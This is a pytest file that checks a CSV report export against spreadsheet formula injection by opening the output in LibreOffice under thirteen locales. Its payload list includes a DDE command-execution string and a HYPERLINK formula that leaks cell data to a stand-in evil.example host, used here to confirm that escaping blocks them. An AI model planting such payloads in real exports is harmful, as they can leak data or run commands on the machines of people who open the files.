"""What a spreadsheet makes of a report, in thirteen languages: LibreOffice reads it. Skipped where it is missing."""

import shutil
import subprocess
from collections.abc import Iterable, Iterator
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest
from anyio import to_thread

from session_graph.access.viewer import Role
from session_graph.exports.worker import Worker
from session_graph.store.database import Database
from session_graph.store.models import Account
from support.api import make_caller
from support.records import make_agent, record
from support.reports import ask_for_report, download, finished, parse_csv

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (Debian: libreoffice-calc-nogui)"),
]

LANGUAGES = {
    "en-US": 1033,
    "de": 1031,
    "fr": 1036,
    "it": 1040,
    "es": 1034,
    "pt-BR": 1046,
    "pl": 1045,
    "cs": 1029,
    "sv": 1053,
    "nl": 1043,
    "fi": 1035,
    "ru": 1049,
    "tr": 1055,
}
"""The languages, by the numbers that the import of CSV has for them."""
PHONES = (
    *(
        "+40712034567",
        "+351912345678",
        "+420601123456",
        "+48512345678",
        "+61491570156",
        "+421911123456",
        "0042",
        "0912",
    ),
    *("112", "+14155550134", "+442079460018", "+33199001235", "+4930901820", "+46701740605", "+358401234567", "*98"),
    *("+14155550134;ext=22", "+2901234", "+79161234567", "+905301234567", "+31612345678", "+393123456789", "5550134"),
)
EXTERNAL_IDS = (
    *(
        "00012345",
        "1E5",
        "3/4",
        "1-2",
        "1.5",
        "1,5",
        "1.234",
        "1 234",
        "1234567890123456",
        "12:30",
        "9 am",
        "5%",
        "MAR1",
    ),
    *("1.3.2026", "3,704", "-7", "+5", "=1+1", "TRUE", "@x", "2026-11-28"),
)
UNITS = ("3.704", "1234.567", "2.5", "4", "1000", "12.25")
COLUMNS = ["PHONE", "CONTACT_INFORMATION", "EXTERNAL_ID", "UNITS", "LEAD_VALUE"]
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


PAYLOADS = (
    *("=1+1", ";=1+1", "a;=1+1;b", "a\t=1+1\tb", "a|=1+1|b", "a\n=1+1\nb", "a\r\n=1+1", "a\r=1+1", "a;\n=1+1"),
    *('a;"=1+1"', 'a;"=1+1";b', 'a;""=1+1', 'a";=1+1', '"a;=1+1', '";"=1+1', 'a,";=1+1', 'a;,"=1+1";', '\\";=1+1'),
    *('"', ';"', '";', ';""', '";"', '"\n=1+1', '"\n"=1+1', '","=1+1', "a; =1+1", "a;\u00a0=1+1", "a;\u200b=1+1"),
    *("a;+1+1", "a;-1+1", "a;@SUM(1)", "a;＝1+1", "a|\t=1+1", "a;'=1+1", "Bob;=cmd|'/C calc'!A0;"),
    *('a;=HYPERLINK("http://evil.example/?"&A1);b', "a\t+1+1|=2+2;-3+3\n@x", '"";""=1+1', '";";"=1+1";"'),
)
SEPARATORS = {"comma": "44", "semicolon": "59", "tab": "9", "bar": "124", "all": "44/59/9/124"}
TEXT_COLUMNS = {
    "contactName": "CONTACT",
    "externalId": "EXTERNAL_ID",
    "summary": "SUMMARY",
    "sessionType": "SESSION_TYPE",
    "actualResult": "ACTUAL_RESULT",
    "expectedResult": "EXPECTED_RESULT",
    "otherContact": "CONTACT_INFORMATION",
}


@pytest.fixture
async def attacks(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, tmp_path: Path
) -> Path:
    """A folder with `attacks.csv`, a report of each payload in each column that a caller writes, and `plain.csv`, the
    same without apostrophes.
    """
    ask = await make_caller(client, account, Role.ADMIN, {"email": "ana@example.com"})
    await make_agent(account)
    alone = [{name: payload} for name in TEXT_COLUMNS for payload in PAYLOADS if _is_allowed(name, payload)]
    everywhere = [
        {name: payload for name in TEXT_COLUMNS if name != "externalId" and _is_allowed(name, payload)}
        for payload in PAYLOADS
    ]
    await record(database, account, *alone, *everywhere, *({"tags": [payload]} for payload in PAYLOADS[:9]))
    columns = [*TEXT_COLUMNS.values(), "TAGS", "UTMS", "COMMENT"]
    for name, escapes in (("attacks", True), ("plain", False)):
        export_id = await ask_for_report(ask, columns=columns, escapeFormulas=escapes)
        assert (await finished(ask, export_id))["status"] == "DONE"
        (tmp_path / f"{name}.csv").write_bytes((await download(client, ask, export_id)).content)
    return tmp_path


def _is_allowed(name: str, payload: str) -> bool:
    """Return whether the field takes the payload: only some may have several lines."""
    return name not in ("externalId", "sessionType") or len(payload.splitlines()) == 1


@pytest.mark.parametrize("separator", SEPARATORS)
async def test_no_text_becomes_a_formula_whatever_separates_the_cells(attacks: Path, separator: str) -> None:
    options = f"{SEPARATORS[separator]},34,76,1,,1033,false,true,false,false,false,0,true"

    async def count_formulas(name: str) -> int:
        rows = await to_thread.run_sync(_open_with, options, attacks / f"{name}.csv", attacks / separator)
        assert sum(map(len, rows)) > len(PAYLOADS) * len(TEXT_COLUMNS)
        return sum(kind == "formula" for row in rows for kind, _ in row)

    assert await count_formulas("plain") > 0
    assert await count_formulas("attacks") == 0


@pytest.fixture
async def report(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, tmp_path: Path
) -> Path:
    """A report with a row for each phone, External ID and number of units, as a manager downloads it."""
    ask = await make_caller(client, account, Role.ADMIN, {"email": "ana@example.com"})
    await ask('mutation { updateAccount(input: {currency: "KWD"}) { errors { message } } }')
    await make_agent(account, unitValue="1.2345")
    await record(
        database,
        account,
        *({"phone": phone} for phone in PHONES),
        *({"externalId": text} for text in EXTERNAL_IDS),
        *({"units": units} for units in UNITS),
    )
    export_id = await ask_for_report(ask, columns=COLUMNS)
    assert (await finished(ask, export_id))["status"] == "DONE"
    path = tmp_path / "report.csv"
    path.write_bytes((await download(client, ask, export_id)).content)
    return path


def open_in(language: str, report: Path) -> list[list[tuple[str, str]]]:
    """Return the type and the text of each cell below the header, as LibreOffice reads the file in the language."""
    return _open_with(f"44,34,76,1,,{LANGUAGES[language]},false,true", report, report.parent / language)[1:]


def _open_with(options: str, report: Path, folder: Path) -> list[list[tuple[str, str]]]:
    """Return the cells that LibreOffice reads with these options of its import of CSV."""
    command = [
        *("soffice", f"-env:UserInstallation=file://{report.parent}/profile", "--headless"),
        f"--infilter=CSV:{options}",
        *("--convert-to", "fods", "--outdir", str(folder), str(report)),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    rows = _repeated(ElementTree.parse(folder / f"{report.stem}.fods").iter(f"{TABLE}table-row"), "rows")
    return [[_read(cell) for cell in _repeated(row.iter(f"{TABLE}table-cell"), "columns")] for row in rows]


def _repeated(elements: Iterable[ElementTree.Element], what: str) -> Iterator[ElementTree.Element]:
    """Yield each element as often as it stands in the sheet, but for the empty rest of the sheet."""
    for element in elements:
        count = int(element.get(f"{TABLE}number-{what}-repeated", 1))
        yield from [element] * (count if count < 1_000 else 1)


def _read(cell: ElementTree.Element) -> tuple[str, str]:
    kind = "formula" if cell.get(f"{TABLE}formula") else cell.get(f"{OFFICE}value-type", "")
    return kind, cell.get(f"{OFFICE}value") or "".join(line.text or "" for line in cell.iter(f"{TEXT}p"))


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_spreadsheet_shows_what_the_report_says(report: Path, language: str) -> None:
    data = await to_thread.run_sync(report.read_bytes)
    rows = parse_csv(data)

    cells = await to_thread.run_sync(open_in, language, report)

    assert len(cells) >= len(rows) == len(PHONES) + len(EXTERNAL_IDS) + len(UNITS)
    for row, found in zip(rows, cells, strict=False):
        for (name, text), (kind, shown) in zip(row.items(), found, strict=False):
            if name in ("Phone", "Contact Information") or (name == "External ID" and text):
                assert (kind, shown) == ("string", text)
            elif kind == "float":
                assert Decimal(shown) == Decimal(text), (name, text, shown)
            else:
                assert (kind, shown) in (("string", text), ("", "")), (name, text, shown)
